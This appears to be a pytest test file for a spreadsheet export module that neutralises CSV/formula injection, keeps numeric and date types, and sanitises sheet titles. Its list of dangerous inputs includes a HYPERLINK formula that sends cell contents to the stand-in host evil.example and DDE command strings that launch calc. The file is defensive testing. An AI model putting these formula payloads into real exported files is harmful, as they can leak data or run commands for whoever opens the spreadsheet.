"""The one writer behind every CSV and XLSX file: text that a spreadsheet would read as a
formula is neutralised (OWASP "CSV injection"), numbers and dates keep their type, and
sheet titles made from user data are valid and unique."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from lotsen.stats import tabular
from lotsen.stats.tabular import Cell, Sheet

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Kommunen", "<5", "..", "", "2+3", "a=b", "Totalt", "20050101-1234", "'redan"]


def _csv_rows(text: str, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _book(sheets):
    return load_workbook(io.BytesIO(tabular.xlsx_bytes(sheets=sheets)))


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_dangerous_first_character_gets_a_single_quote(text):
    assert tabular.cell_text_neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert tabular.cell_text_neutralise(text) == text


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_neutralises_every_dangerous_prefix(text):
    rows = _csv_rows(tabular.csv_text(rows=[["Namn"], [text]], delimiter=";"))
    assert rows == [["Namn"], ["'" + text]]


def test_csv_keeps_numbers_dates_and_empty_cells():
    text = tabular.csv_text(
        rows=[[-2, 3.5, Decimal("-1.25"), dt.date(2027, 1, 31), None, "-2"]], delimiter=";"
    )
    assert text == "-2;3.5;-1.25;2027-01-31;;'-2\r\n"


def test_csv_formats_decimals_as_the_caller_asks_and_keeps_negative_numbers_numbers():
    text = tabular.csv_text(
        rows=[[-1.5, 7, Decimal("2.25")]],
        delimiter=";",
        float_text=lambda v: f"{v:.2f}".replace(".", ","),
    )
    assert text == "-1,50;7;2,25\r\n"


def test_csv_delimiter_line_ending_and_quoting():
    text = tabular.csv_text(
        rows=[["a,b", 'sa "hej"', "=1;2"], []], delimiter=",", lineterminator="\n"
    )
    assert text == '"a,b","sa ""hej""",\'=1;2\n\n'


def test_csv_takes_styled_cells_and_objects_that_become_text():
    class Label:
        def __str__(self) -> str:
            return "=lazy"

    text = tabular.csv_text(rows=[[Cell("@x", bold=True), Label()]], delimiter=";")
    assert text == "'@x;'=lazy\r\n"


@pytest.mark.parametrize("text", DANGEROUS)
def test_xlsx_never_stores_a_formula(text):
    sheet = _book([Sheet(title="Blad", rows=[[text, Cell(text, bold=True)]])])["Blad"]
    for cell in (sheet["A1"], sheet["B1"]):
        assert cell.data_type == "s"
        # An XML reader turns a carriage return into a line feed.
        assert cell.value == "'" + text.replace("\r", "\n")
    assert sheet["B1"].font.bold


def test_xlsx_keeps_numbers_numbers_and_dates_dates():
    rows = [
        [-2, 3.5, Decimal("-1.25"), dt.date(2027, 1, 31), None, "-2+3", True],
        [Cell(1250.5, number_format='#,##0" kr"'), Cell(None, number_format="0.0%")],
    ]
    sheet = _book([Sheet(title="Tal", rows=rows)])["Tal"]
    first = list(sheet.iter_rows(min_row=1, max_row=1))[0]
    assert [c.data_type for c in first[:4]] == ["n", "n", "n", "d"]
    assert [c.value for c in first[:3]] == [-2, 3.5, -1.25]
    assert first[3].value.date() == dt.date(2027, 1, 31)
    assert first[4].value is None
    assert first[5].data_type == "s" and first[5].value == "'-2+3"
    assert first[6].value is True
    assert sheet["A2"].value == 1250.5 and sheet["A2"].number_format == '#,##0" kr"'


def test_xlsx_rejects_a_datetime_with_a_time_zone():
    aware = dt.datetime(2027, 1, 1, 12, tzinfo=dt.UTC)
    with pytest.raises(ValueError, match="tidszon"):
        tabular.xlsx_bytes(sheets=[Sheet(title="Blad", rows=[[aware]])])


def test_xlsx_replaces_characters_that_xml_cannot_hold():
    sheet = _book([Sheet(title="Blad", rows=[["a\x00b\x1fc"]])])["Blad"]
    assert sheet["A1"].value == "a\ufffdb\ufffdc"


def test_xlsx_styles_widths_freeze_and_blank_rows():
    sheets = [
        Sheet(
            title="Första",
            rows=[[Cell("Rubrik", bold=True, size=13)], [], [Cell("Lång text", wrap=True)]],
            widths={1: 40, 3: 18},
            freeze="A3",
        ),
        Sheet(title="Andra", rows=[["x"]]),
    ]
    book = _book(sheets)
    assert book.sheetnames == ["Första", "Andra"]
    first = book["Första"]
    assert first["A1"].font.bold and first["A1"].font.size == 13
    assert first["A2"].value is None and first["A3"].value == "Lång text"
    assert first["A3"].alignment.wrap_text
    assert first.column_dimensions["A"].width == 40
    assert first.column_dimensions["C"].width == 18
    assert first.freeze_panes == "A3"


def test_xlsx_needs_a_sheet():
    with pytest.raises(ValueError):
        tabular.xlsx_bytes(sheets=[])


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("=1+1", "1+1"),
        ("+cmd|' /C calc'!A0", "cmd|'  C calc'!A0"),
        ("-2+3", "2+3"),
        ("@SUM(A1)", "SUM(A1)"),
        ("\t=x", "x"),
        ("'citat'", "citat"),
        ("a[b]c:d*e?f/g\\h", "a b c d e f g h"),
        ("", "Blad"),
        ("===", "Blad"),
        ("History", "History (2)"),
    ],
)
def test_sheet_titles_are_made_valid(name, title):
    assert tabular.sheet_title(name, used=set()) == title


def test_sheet_titles_are_at_most_31_characters_and_unique():
    used: set[str] = set()
    first = tabular.sheet_title("Ett väldigt långt namn på ett delprojekt: del 1/2", used=used)
    second = tabular.sheet_title("Ett väldigt långt namn på ett delprojekt: del 2/2", used=used)
    third = tabular.sheet_title("ett väldigt långt namn på ett delprojekt: del 1/2", used=used)
    assert len(first) <= 31 and len(second) <= 31 and len(third) <= 31
    assert len({first.casefold(), second.casefold(), third.casefold()}) == 3
    assert not (set(first) | set(second) | set(third)) & set("[]:*?/\\")


def test_the_workbook_makes_sheet_titles_valid_and_unique():
    book = _book([Sheet(title="Delprojekt", rows=[]), Sheet(title="Delprojekt", rows=[])])
    assert book.sheetnames == ["Delprojekt", "Delprojekt (2)"]
    book = _book([Sheet(title="=1+1", rows=[["=1+1"]])])
    assert book.sheetnames == ["1+1"]
    assert book["1+1"]["A1"].value == "'=1+1"
